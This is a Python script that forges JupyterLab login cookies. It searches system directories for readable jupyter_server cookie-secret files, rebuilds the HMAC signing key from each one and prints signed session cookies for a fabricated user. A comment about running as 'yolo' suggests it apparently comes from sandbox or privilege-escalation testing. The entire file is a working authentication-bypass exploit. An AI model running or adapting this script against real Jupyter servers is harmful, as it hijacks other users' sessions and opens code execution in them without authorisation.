"""Forge JupyterLab login cookies from every cookie secret a session can read (run as yolo, -I).

argv[1]: the Host header the client will send (the cookie's name is derived from it). Prints one
`NAME=VALUE` per readable file named like jupyter_server's cookie secret, after a line `FOUND n`.
The signing is jupyter_server's: HMAC-SHA256 keyed by the file's bytes over the (empty) password and
hashed password, then tornado's create_signed_value.
"""

import hashlib
import hmac
import json
import os
import re
import sys

from tornado.web import create_signed_value

ROOTS = ("/home", "/workspace", "/run", "/tmp", "/var/tmp", "/dev/shm", "/opt", "/etc", "/var/lib")

name = re.sub(r"[^A-Za-z0-9]", "-", f"username-{sys.argv[1]}")
user = {"username": "forged", "name": "forged", "display_name": "forged", "initials": "F"}
value = json.dumps({**user, "color": None, "avatar_url": None})
found = []
for root in ROOTS:
    for folder, _dirs, files in os.walk(root):
        found += [os.path.join(folder, f) for f in files if "cookie_secret" in f]
forged = []
for path in found:
    try:
        with open(path, "rb") as f:
            key = f.read()
    except OSError:
        continue
    secret = hmac.new(key, digestmod=hashlib.sha256)
    secret.update(b"")  # ServerApp.password, deprecated and empty
    secret.update(b"")  # PasswordIdentityProvider.hashed_password: the token alone
    forged.append(f"{name}={create_signed_value(secret.digest(), name, value).decode()}")
print(f"FOUND {len(forged)} {' '.join(found)}")
print("\n".join(forged))
